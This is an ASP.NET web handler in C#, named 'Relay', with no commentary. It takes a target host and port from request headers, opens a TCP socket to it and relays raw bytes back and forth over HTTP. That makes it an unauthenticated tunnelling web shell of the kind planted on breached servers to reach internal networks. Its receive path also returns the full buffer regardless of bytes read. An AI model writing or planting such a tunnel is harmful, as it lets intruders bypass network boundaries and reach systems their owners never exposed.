<%@ WebHandler Language="C#" Class="Relay" %>
using System;
using System.Web;
using System.Net.Sockets;
public class Relay : IHttpHandler, System.Web.SessionState.IRequiresSessionState {
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext ctx) {
        string op = ctx.Request.Headers["X-Op"];
        if (op == "open") {
            Socket conn = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
            conn.Connect(ctx.Request.Headers["X-Host"], int.Parse(ctx.Request.Headers["X-Port"]));
            ctx.Session["link"] = conn;
        } else if (op == "send") {
            Socket conn = (Socket)ctx.Session["link"];
            byte[] body = ctx.Request.BinaryRead(ctx.Request.ContentLength);
            conn.Send(body);
        } else if (op == "recv") {
            Socket conn = (Socket)ctx.Session["link"];
            byte[] buf = new byte[4096];
            int n = conn.Receive(buf);
            ctx.Response.BinaryWrite(buf);
        }
    }
}
